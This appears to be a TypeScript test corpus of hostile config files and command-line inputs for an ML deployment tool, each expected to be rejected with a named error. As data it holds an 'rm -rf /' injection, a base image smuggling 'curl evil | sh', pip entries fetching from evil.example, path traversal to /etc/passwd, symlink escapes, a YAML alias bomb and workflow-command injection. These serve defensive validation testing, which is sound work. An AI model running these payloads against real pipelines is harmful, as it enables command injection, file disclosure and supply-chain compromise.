import { join } from 'node:path';
import { EXAMPLE } from '../helpers/run-action.js';

/**
 * The hostile-input corpus: config files and command lines an attacker or a careless user would
 * write. Every case must end in a user error that names the file and field, the flag or the input,
 * quickly, having changed nothing. `{dir}` in an argument is the case's project folder.
 */
export interface HostileCase {
  name: string;
  /** Files written into the case's project folder (a copy of the example) before it runs. */
  files?: Record<string, string | Buffer>;
  /** Links created in the project folder: [link, target] (target may use {dir}). */
  links?: [string, string][];
  argv: string[];
  /** What the error must say (it names the file and field, the flag or the input). */
  expect: RegExp;
}

/** Names that must never become a path, a URL segment or a log line unexamined. */
export const HOSTILE_NAMES: string[] = [
  '../../victim/important',
  '..',
  'guard-ep/deployments/blue',
  'a?x=1',
  'ep#frag',
  '%2e%2e%2fvictim',
  'ep\n::warning::injected',
  'ep;rm -rf /',
  ' ',
  'x'.repeat(200),
  'ep name',
  'ép-accent',
  '-lead',
  'trail-',
  'ab',
];

const INFERENCE = (extra: object, env: object = {}) =>
  JSON.stringify({ entryScript: 'score.py', sourceDirectory: 'src', ...extra, environment: { name: 'hostile-env', ...env } }, null, 2);
const deployArgs = (extra: string[] = []) => [
  'deploy',
  '--model',
  '{dir}/model',
  '--inference-config',
  '{dir}/inferenceconfig.json',
  '--deployment-config',
  '{dir}/deploymentconfig.json',
  ...extra,
];
const withInference = (name: string, text: string, expect: RegExp): HostileCase => ({
  name,
  files: { 'inferenceconfig.json': text },
  argv: deployArgs(),
  expect,
});
const withDeployment = (name: string, file: string, text: string, expect: RegExp): HostileCase => ({
  name,
  files: { [file]: text },
  argv: ['deploy', '--model', '{dir}/model', '--inference-config', '{dir}/inferenceconfig.json', '--deployment-config', `{dir}/${file}`],
  expect,
});
const v2 = (name: string, text: string, expect: RegExp, flag = '--deployment'): HostileCase => ({
  name,
  files: { 'hostile.yml': text },
  argv:
    flag === '--environment'
      ? ['build-env', '--environment', '{dir}/hostile.yml']
      : [
          'deploy',
          '--model',
          '{dir}/model',
          flag,
          '{dir}/hostile.yml',
          ...(flag === '--deployment' ? [] : ['--inference-config', '{dir}/inferenceconfig.json']),
        ],
  expect,
});
const aliasBomb = `a: &a ["x","x","x","x","x","x","x","x","x"]\n${Array.from({ length: 9 }, (_, i) => `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)}]`).join('\n')}\nentryScript: score.py\n`;

export function hostileCases(): HostileCase[] {
  const cases: HostileCase[] = [];
  for (const hostile of HOSTILE_NAMES) {
    // A value that starts with "-" is refused by the flag parser itself, naming the flag.
    const flag = (name: string) => (hostile.startsWith('-') ? new RegExp(`Option '${name}' argument is ambiguous`) : new RegExp(`${name}: `));
    for (const command of ['wait', 'teardown', 'keys'])
      cases.push({
        name: `${command} --endpoint-name ${JSON.stringify(hostile)}`,
        argv: [command, '--endpoint-name', hostile],
        expect: flag('--endpoint-name'),
      });
    cases.push({ name: `deploy --endpoint-name ${JSON.stringify(hostile)}`, argv: deployArgs(['--endpoint-name', hostile]), expect: flag('--endpoint-name') });
    cases.push({
      name: `teardown --deployment-name ${JSON.stringify(hostile)}`,
      argv: ['teardown', '--endpoint-name', 'victim-ep', '--deployment-name', hostile],
      expect: flag('--deployment-name'),
    });
  }
  for (const model of ['../codes/evilcode', 'env?x=1', 'a/b', '.hidden', 'x'.repeat(300), 'name\nnewline']) {
    cases.push({
      name: `register --model-name ${JSON.stringify(model).slice(0, 40)}`,
      argv: ['register', '--model-name', model, '--model-path', join(EXAMPLE, 'model')],
      expect: /--model-name: /,
    });
  }
  cases.push(
    withInference(
      'entry script outside the code folder (absolute)',
      INFERENCE({ entryScript: '/etc/passwd' }),
      /inferenceconfig\.json:\d+:\d+ entryScript: .*outside the code folder/,
    ),
    withInference(
      'entry script climbing out of the code folder',
      INFERENCE({ entryScript: '../../outside.py' }),
      /entryScript: .*outside the code folder|entryScript: refers to/,
    ),
    withInference(
      'environment name that is a path',
      INFERENCE({}, { name: '../codes/evilcode' }),
      /environment\.name: "\.\.\/codes\/evilcode" may contain only/,
    ),
    withInference('environment name with a query', INFERENCE({}, { name: 'env?x=1' }), /environment\.name: "env\?x=1"/),
    withInference('environment version that is a path', INFERENCE({}, { version: '1/../2' }), /environment\.version: "1\/\.\.\/2" is not a version/),
    withInference(
      'environment variable with a bad name',
      INFERENCE({}, { environmentVariables: { 'BAD-NAME': '1' } }),
      /environment\.environmentVariables\.BAD-NAME: .* is not an environment variable name/,
    ),
    ...['PATH', 'LD_PRELOAD', 'PYTHONPATH', 'PYTHONHOME', 'AZUREML_MODEL_DIR', 'MLSHIP_HOME'].map((name) =>
      withInference(
        `environment variable ${name} overridden`,
        INFERENCE({}, { environmentVariables: { [name]: '/nonexistent' } }),
        new RegExp(`environment\\.environmentVariables\\.${name}: ${name} is set by the serving stack itself`),
      ),
    ),
    v2(
      'deployment environment_variables overriding LD_LIBRARY_PATH',
      'name: blue\nendpoint_name: hostile-ep\nenvironment_variables:\n  LD_LIBRARY_PATH: /tmp/evil\n',
      /environment_variables\.LD_LIBRARY_PATH: LD_LIBRARY_PATH is set by the serving stack itself/,
    ),
    withInference(
      'environment variable with a NUL byte',
      INFERENCE({}, { environmentVariables: { GOOD: 'a\u0000b' } }),
      /environment\.environmentVariables\.GOOD: contains a NUL character/,
    ),
    withInference(
      'pip option --index-url',
      INFERENCE({}, { python: { condaDependencies: { dependencies: [{ pip: ['--index-url=http://evil.example/simple'] }] } } }),
      /environment\.python\.condaDependencies: the pip entry "--index-url/,
    ),
    withInference(
      'pip editable install',
      INFERENCE({}, { python: { condaDependencies: { dependencies: [{ pip: ['-e git+https://evil.example/x'] }] } } }),
      /the pip entry "-e git/,
    ),
    withInference(
      'pip entry spanning lines',
      INFERENCE({}, { python: { condaDependencies: { dependencies: [{ pip: ['numpy\n--extra-index-url http://evil'] }] } } }),
      /the pip entry .* spans lines|is an option/,
    ),
    withInference('conda file that does not exist', INFERENCE({ condaFile: 'missing.yml' }), /condaFile: refers to "missing\.yml", which does not exist/),
    withInference(
      'source directory that does not exist',
      INFERENCE({ sourceDirectory: 'nowhere' }),
      /sourceDirectory: refers to "nowhere", which does not exist/,
    ),
    withInference(
      'source directory that is a file',
      INFERENCE({ sourceDirectory: 'sample-request.json' }),
      /sourceDirectory: refers to .* which is a file, not a folder/,
    ),
    withInference(
      'JSON with a missing comma',
      '{\n  "entryScript": "score.py"\n  "sourceDirectory": "src"\n}\n',
      /inferenceconfig\.json:2:\d+ a comma is missing/,
    ),
    withInference('JSON with a trailing comma', '{\n  "entryScript": "score.py",\n}\n', /inferenceconfig\.json:\d+:\d+ not valid JSON/),
    withInference('JSON with a duplicated key', '{"entryScript": "score.py", "entryScript": "other.py", "sourceDirectory": "src"}', /appears twice|duplicate/i),
    withInference('YAML indented with tabs', 'entryScript: score.py\nenvironment:\n\tname: x\n', /inferenceconfig\.json:\d+:\d+ /),
    withInference('YAML alias bomb', aliasBomb, /alias|not valid/i),
    // Round two: inputs that read like internal errors or were accepted.
    withInference(
      'JSON nested thousands of levels',
      `${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}`,
      /inferenceconfig\.json:1:\d+ is nested more than 64 levels deep/,
    ),
    withInference(
      'YAML nested thousands of levels',
      `entryScript: score.py\nx: ${'['.repeat(5000)}${']'.repeat(5000)}\n`,
      /is nested more than 64 levels deep/,
    ),
    withInference('YAML of block sequences nested thousands of levels', `${'- '.repeat(5000)}1\n`, /is nested more than 64 levels deep/),
    v2('several YAML documents in one file', 'name: blue\nendpoint_name: ep\n---\nname: green\n', /hostile\.yml:3:\d+ holds several YAML documents/),
    withDeployment(
      'a deployment config without computeType',
      'deploymentconfig.json',
      '{"containerResourceRequirements": {"cpu": 1}, "authEnabled": true}',
      /deploymentconfig\.json:1:1 computeType: is missing.*\n.*ACI/,
    ),
    {
      name: 'a conda file with too many aliases names the inference config field',
      files: { 'inferenceconfig.json': INFERENCE({ condaFile: 'conda.yml' }), 'conda.yml': aliasBomb.replace('entryScript: score.py', 'dependencies: []') },
      argv: deployArgs(),
      expect: /conda\.yml.*alias[\s\S]*named by condaFile in .*inferenceconfig\.json/,
    },
    {
      name: 'a conda file that is a link to a file outside the project',
      files: { 'inferenceconfig.json': INFERENCE({ condaFile: 'conda.yml' }) },
      links: [['conda.yml', '/etc/hostname']],
      argv: deployArgs(),
      expect: /condaFile: refers to "conda\.yml", a symbolic link to a file outside this project/,
    },
    withInference(
      'a pip requirement fetched from git over http',
      INFERENCE({}, { python: { condaDependencies: { dependencies: [{ pip: ['git+http://evil.example/pkg.git'] }] } } }),
      /the pip entry "git\+http:\/\/evil\.example\/pkg\.git" fetches code from a URL/,
    ),
    withInference(
      'a pip requirement that is a wheel URL',
      INFERENCE({}, { python: { condaDependencies: { dependencies: [{ pip: ['pkg @ http://evil.example/pkg.whl'] }] } } }),
      /the pip entry "pkg @ http:\/\/evil\.example\/pkg\.whl" fetches code from a URL/,
    ),
    withInference(
      'a pip requirement that is a file outside the project',
      INFERENCE({}, { python: { condaDependencies: { dependencies: [{ pip: ['pkg @ file:///tmp/outside-pkg'] }] } } }),
      /the pip entry "pkg @ file:\/\/\/tmp\/outside-pkg" installs from a file outside this project/,
    ),
    withInference(
      'a base image with a newline',
      INFERENCE({ baseImage: 'python:3.11\nRUN curl evil | sh' }),
      /baseImage: "python:3\.11\\nRUN.*is not a container image reference/,
    ),
    v2(
      'a v2 environment image with a newline',
      'name: env\nimage: "python:3.11\\nRUN curl evil"\n',
      /image: .*is not a container image reference/,
      '--environment',
    ),
    {
      name: 'a timeout of 400 digits',
      argv: ['wait', '--endpoint-name', 'good-ep', '--timeout', `${'9'.repeat(400)}s`],
      expect: /--timeout: .*is not a duration/,
    },
    {
      name: 'a timeout longer than a week',
      argv: ['wait', '--endpoint-name', 'good-ep', '--timeout', '400d'],
      expect: /--timeout: "400d" is longer than mlship waits \(at most 7d\)/,
    },
    withInference(
      'a file over the size limit',
      `{"entryScript": "score.py", "pad": "${'x'.repeat(1_100_000)}"}`,
      /is \d+ bytes; config files may have at most 1048576/,
    ),
    withInference('an empty file', '', /inferenceconfig\.json:1:1 not valid JSON/),
    withInference('binary garbage', '\u0000\u0001\u0002\u00ff\u00fe garbage', /inferenceconfig\.json:\d+:\d+ /),
    withInference('a misspelt entryScript', '{"entryScirpt": "score.py"}', /did you mean "entryScript"/),
    withInference('a boolean that is neither', INFERENCE({}, { python: { userManagedDependencies: 'maybe' } }), /userManagedDependencies/),
    withDeployment(
      'unknown compute type',
      'deploymentconfig.json',
      '{"computeType": "gpu"}',
      /deploymentconfig\.json:1:\d+ computeType: is "gpu", which is not an accepted value/,
    ),
    withDeployment('port that is text', 'deploymentconfig.json', '{"computeType": "local", "port": "abc"}', /port: /),
    withDeployment(
      'infinite replicas (YAML .inf)',
      'deploymentconfig.yml',
      'computeType: aks\nnumReplicas: .inf\n',
      /deploymentconfig\.yml:2:\d+ numReplicas: is not a finite number/,
    ),
    withDeployment(
      'an overflowing number',
      'deploymentconfig.json',
      '{"computeType": "aci", "containerResourceRequirements": {"cpu": 1e999}}',
      /containerResourceRequirements\.cpu: is not a finite number/,
    ),
    withDeployment(
      'a NaN (YAML .nan)',
      'deploymentconfig.yml',
      'computeType: aci\ncontainerResourceRequirements:\n  memoryInGB: .nan\n',
      /memoryInGB: is not a finite number/,
    ),
    withDeployment(
      'a misspelt authEnabled',
      'deploymentconfig.json',
      '{"computeType": "local", "authEnable": true}',
      /authEnable: unknown key; a misspelt "authEnabled"/,
    ),
    withDeployment('a misspelt tokenAuthEnabled', 'deploymentconfig.json', '{"computeType": "aks", "tokenAuthEnable": true}', /a misspelt "tokenAuthEnabled"/),
    withDeployment(
      'a secondary key without a primary',
      'deploymentconfig.json',
      '{"computeType": "local", "authEnabled": true, "keys": {"secondaryKey": "abc123abc123"}}',
      /keys\.secondaryKey: a secondary key needs a primary key/,
    ),
    withDeployment(
      'a tag key with markup',
      'deploymentconfig.json',
      '{"computeType": "local", "tags": {"<script>": "x"}}',
      /tags\.<script>: tag key "<script>" must be/,
    ),
    withDeployment(
      'a tag value too long',
      'deploymentconfig.json',
      `{"computeType": "local", "tags": {"note": "${'v'.repeat(300)}"}}`,
      /tags\.note: tag "note" has a value over 256/,
    ),
    withDeployment(
      'a tag value with a newline',
      'deploymentconfig.json',
      '{"computeType": "local", "tags": {"note": "a\\n::warning::x"}}',
      /tags\.note: tag "note" has a value .*control characters/,
    ),
    withDeployment(
      'key and token auth at once',
      'deploymentconfig.json',
      '{"computeType": "aks", "authEnabled": true, "tokenAuthEnabled": true}',
      /tokenAuthEnabled: authEnabled and tokenAuthEnabled cannot both be true/,
    ),
    {
      name: 'a deployment config that is a folder',
      argv: ['deploy', '--model', '{dir}/model', '--inference-config', '{dir}/inferenceconfig.json', '--deployment-config', '{dir}/src'],
      expect: /\/src cannot be read \(EISDIR\)/,
    },
    v2(
      'endpoint name that is a path',
      '$schema: https://azuremlschemas.azureedge.net/latest/managedOnlineEndpoint.schema.json\nname: ../x\nauth_mode: key\n',
      /hostile\.yml:2:\d+ name: "\.\.\/x"/,
      '--endpoint',
    ),
    v2(
      'endpoint name with a query',
      '$schema: https://azuremlschemas.azureedge.net/latest/managedOnlineEndpoint.schema.json\nname: ep?y=1\nauth_mode: key\n',
      /hostile\.yml:2:\d+ name: "ep\?y=1"/,
      '--endpoint',
    ),
    v2(
      'deployment name that is a path',
      'name: a/b\nendpoint_name: good-ep\ncode_configuration: {code: src, scoring_script: score.py}\n',
      /hostile\.yml:1:\d+ name: "a\/b"/,
    ),
    v2(
      'deployment endpoint_name climbing out',
      'name: blue\nendpoint_name: ../../victim\ncode_configuration: {code: src, scoring_script: score.py}\n',
      /hostile\.yml:2:\d+ endpoint_name: "\.\.\/\.\.\/victim"/,
    ),
    v2(
      'scoring script outside the code folder',
      'name: blue\nendpoint_name: good-ep\ncode_configuration: {code: src, scoring_script: ../../../etc/passwd}\n',
      /code_configuration\.scoring_script: /,
    ),
    v2(
      'registered model name with a slash',
      'name: blue\nendpoint_name: good-ep\nmodel: {name: a/b, version: "1"}\ncode_configuration: {code: src, scoring_script: score.py}\n',
      /model\.name: "a\/b"/,
    ),
    v2(
      'model version with a query',
      'name: blue\nendpoint_name: good-ep\nmodel: {name: good, version: "1?x=2"}\ncode_configuration: {code: src, scoring_script: score.py}\n',
      /model\.version: "1\?x=2" is not a version/,
    ),
    v2(
      'environment variables with a NUL',
      'name: blue\nendpoint_name: good-ep\ncode_configuration: {code: src, scoring_script: score.py}\nenvironment_variables: {A: "x\\0y"}\n',
      /environment_variables\.A: contains a NUL/,
    ),
    v2(
      'environment YAML named like a path',
      '$schema: https://azuremlschemas.azureedge.net/latest/environment.schema.json\nname: ../codes/x\nimage: mcr.microsoft.com/azureml/minimal:latest\n',
      /hostile\.yml:2:\d+ name: "\.\.\/codes\/x"/,
      '--environment',
    ),
    v2(
      'environment YAML with an option as pip entry',
      '$schema: https://azuremlschemas.azureedge.net/latest/environment.schema.json\nname: ok\nimage: mcr.microsoft.com/azureml/minimal:latest\nconda_file: {dependencies: [{pip: ["--trusted-host=evil"]}]}\n',
      /the pip entry "--trusted-host=evil"/,
      '--environment',
    ),
    v2(
      'model YAML named with a query',
      '$schema: https://azuremlschemas.azureedge.net/latest/model.schema.json\nname: env?x=1\npath: model\n',
      /hostile\.yml:2:\d+ name: "env\?x=1"/,
      '--deployment',
    ),
  );
  cases.push(
    {
      name: 'model folder with a link outside it',
      links: [['model/stolen.txt', '/etc/hostname']],
      argv: ['register', '--model-name', 'linked', '--model-path', '{dir}/model'],
      expect: /stolen\.txt links to .*hostname, outside/,
    },
    {
      name: 'model folder with a dangling link',
      links: [['model/gone.bin', '{dir}/nowhere.bin']],
      argv: ['register', '--model-name', 'linked', '--model-path', '{dir}/model'],
      expect: /gone\.bin is a link to .*, which does not exist/,
    },
    {
      name: 'model folder with a link loop',
      links: [['model/loop', '{dir}/model']],
      argv: ['register', '--model-name', 'linked', '--model-path', '{dir}/model'],
      expect: /loop.* is a link back to a folder it is in/,
    },
    {
      name: 'code folder with a link outside it',
      links: [['src/secret.py', '/etc/hostname']],
      argv: ['plan', '--model', '{dir}/model', '--inference-config', '{dir}/inferenceconfig.json'],
      expect: /secret\.py links to .*, outside/,
    },
    {
      name: 'a model path that does not exist',
      argv: ['deploy', '--model', '{dir}/no-such-model', '--inference-config', '{dir}/inferenceconfig.json'],
      expect: /--model is ".*no-such-model": not an existing path/,
    },
    {
      name: '.amlignore with a backwards range',
      files: { 'model/.amlignore': '*.tmp\n[z-a]\n' },
      argv: ['register', '--model-name', 'ignored', '--model-path', '{dir}/model'],
      expect: /\.amlignore:2 .* is not a valid pattern/,
    },
    {
      name: 'a sample request that does not exist',
      argv: ['wait', '--endpoint-name', 'good-ep', '--sample-request', '{dir}/missing.json'],
      expect: /--sample-request: .*missing\.json cannot be read/,
    },
    {
      name: 'a sample request that is a folder',
      argv: ['wait', '--endpoint-name', 'good-ep', '--sample-request', '{dir}/src'],
      expect: /--sample-request: .*src cannot be read \(it is a folder\)/,
    },
    {
      name: 'a sample request that is not JSON',
      files: { 'bad.json': '{"data": [1,]}' },
      argv: ['wait', '--endpoint-name', 'good-ep', '--sample-request', '{dir}/bad.json'],
      expect: /--sample-request: .*bad\.json:1:\d+ is not valid JSON/,
    },
    { name: '--timeout without a unit', argv: ['wait', '--endpoint-name', 'good-ep', '--timeout', '10'], expect: /--timeout: "10" is not a duration/ },
    { name: '--timeout of zero', argv: ['wait', '--endpoint-name', 'good-ep', '--timeout', '0s'], expect: /--timeout: "0s" is no time at all/ },
    {
      name: '--timeout in words',
      argv: ['wait', '--endpoint-name', 'good-ep', '--timeout', 'ten minutes'],
      expect: /--timeout: "ten minutes" is not a duration/,
    },
    {
      name: '--expect-status that is text',
      argv: ['wait', '--endpoint-name', 'good-ep', '--expect-status', 'ok'],
      expect: /--expect-status ok: use an HTTP status/,
    },
    {
      name: '--expect-status out of range',
      argv: ['wait', '--endpoint-name', 'good-ep', '--expect-status', '99'],
      expect: /--expect-status 99: use an HTTP status/,
    },
    { name: '--target that is no target', argv: ['wait', '--endpoint-name', 'good-ep', '--target', 'azure'], expect: /--target azure: use local, aci or aks/ },
    {
      name: '--tag without a value',
      argv: ['register', '--model-name', 'm', '--model-path', '{dir}/model', '--tag', 'novalue'],
      expect: /--tag novalue: write key=value/,
    },
    {
      name: '--tag key with markup',
      argv: ['register', '--model-name', 'm', '--model-path', '{dir}/model', '--tag', 'a<b=c'],
      expect: /--tag: tag key "a<b" must be/,
    },
    {
      name: '--tag value with a newline',
      argv: ['register', '--model-name', 'm', '--model-path', '{dir}/model', '--tag', 'k=a\n::add-mask::x'],
      expect: /--tag: tag "k" has a value/,
    },
    {
      name: '--delete-model at latest',
      argv: ['teardown', '--endpoint-name', 'good-ep', '--delete-model', 'm@latest'],
      expect: /delete-model: "m@latest" must be name:version/,
    },
    {
      name: '--delete-model without a version',
      argv: ['teardown', '--endpoint-name', 'good-ep', '--delete-model', 'm'],
      expect: /delete-model: "m" must be name:version/,
    },
    { name: 'an unknown flag', argv: ['up', '--kep'], expect: /unknown option --kep: did you mean --keep\?/ },
    { name: 'an unknown command', argv: ['launch'], expect: /unknown command "launch"/ },
    { name: '--model-path without --model-name', argv: ['deploy', '--model-path', '{dir}/model'], expect: /--model-name and --model-path go together/ },
    { name: 'validate with no files', argv: ['validate'], expect: /mlship validate needs one or more files/ },
  );
  return cases;
}

/** Action inputs: each case runs the bundled action as a process. */
export interface HostileInputs {
  name: string;
  action: string;
  inputs: Record<string, string>;
  expect: RegExp;
}

export function hostileInputs(project: string): HostileInputs[] {
  const cfg = { 'inference-config': join(project, 'inferenceconfig.json'), model: join(project, 'model') };
  const cases: HostileInputs[] = [];
  for (const hostile of ['../../victim/important', 'guard-ep/deployments/blue', 'ep\n::warning::injected', 'a?x=1', '%2e%2e']) {
    cases.push({
      name: `teardown endpoint-name ${JSON.stringify(hostile)}`,
      action: 'teardown',
      inputs: { 'endpoint-name': hostile },
      expect: /input "endpoint-name": /,
    });
    cases.push({
      name: `wait-healthy endpoint-name ${JSON.stringify(hostile)}`,
      action: 'wait-healthy',
      inputs: { 'endpoint-name': hostile },
      expect: /input "endpoint-name": /,
    });
    cases.push({
      name: `deploy-model endpoint-name ${JSON.stringify(hostile)}`,
      action: 'deploy-model',
      inputs: { ...cfg, 'endpoint-name': hostile },
      expect: /inputs endpoint-name: /,
    });
  }
  cases.push(
    {
      name: 'wait-healthy timeout in words',
      action: 'wait-healthy',
      inputs: { 'endpoint-name': 'good-ep', timeout: 'ten' },
      expect: /input "timeout": "ten" is not a duration/,
    },
    {
      name: 'wait-healthy expect-status text',
      action: 'wait-healthy',
      inputs: { 'endpoint-name': 'good-ep', 'expect-status': 'abc' },
      expect: /input "expect-status" is "abc"/,
    },
    {
      name: 'deploy-model traffic over 100%',
      action: 'deploy-model',
      inputs: { ...cfg, traffic: '150%' },
      expect: /input "traffic": "150%" is not a share of traffic/,
    },
    { name: 'deploy-model negative traffic', action: 'deploy-model', inputs: { ...cfg, traffic: '-1' }, expect: /input "traffic": "-1" is not a share/ },
    { name: 'deploy-model unknown mode', action: 'deploy-model', inputs: { ...cfg, mode: 'destroy' }, expect: /input "mode" is "destroy"/ },
    { name: 'deploy-model unknown target', action: 'deploy-model', inputs: { ...cfg, target: 'azure' }, expect: /input "target" is "azure"/ },
    {
      name: 'deploy-model boolean that is neither',
      action: 'deploy-model',
      inputs: { ...cfg, preview: 'maybe' },
      expect: /input "preview" is "maybe"; use true or false/,
    },
    {
      name: 'teardown older-than in words',
      action: 'teardown',
      inputs: { 'tag-selector': 'mlship.pr', 'older-than': 'soon' },
      expect: /input "older-than": "soon" is not a duration/,
    },
    { name: 'teardown tag-selector without a key', action: 'teardown', inputs: { 'tag-selector': '=x' }, expect: /tag-selector: "=x" has no tag name/ },
    {
      name: 'register-model tags without a value',
      action: 'register-model',
      inputs: { 'model-name': 'm', 'model-path': cfg.model, tags: 'novalue' },
      expect: /input "tags": "novalue" is not key=value/,
    },
    {
      name: 'register-model tag key with markup',
      action: 'register-model',
      inputs: { 'model-name': 'm', 'model-path': cfg.model, tags: 'a<b=c' },
      expect: /input "tags": tag key "a<b" must be/,
    },
    {
      name: 'register-model name that is a path',
      action: 'register-model',
      inputs: { 'model-name': '../codes/evilcode', 'model-path': cfg.model },
      expect: /model-name: "\.\.\/codes\/evilcode" may contain only/,
    },
    {
      name: 'teardown delete-model at latest',
      action: 'teardown',
      inputs: { 'endpoint-name': 'good-ep', 'delete-model': 'm@latest' },
      expect: /delete-model: "m@latest" must be name:version/,
    },
    {
      name: 'wait-healthy sample-request missing',
      action: 'wait-healthy',
      inputs: { 'endpoint-name': 'good-ep', 'sample-request': join(project, 'missing.json') },
      expect: /input "sample-request": .*missing\.json cannot be read/,
    },
  );
  return cases;
}
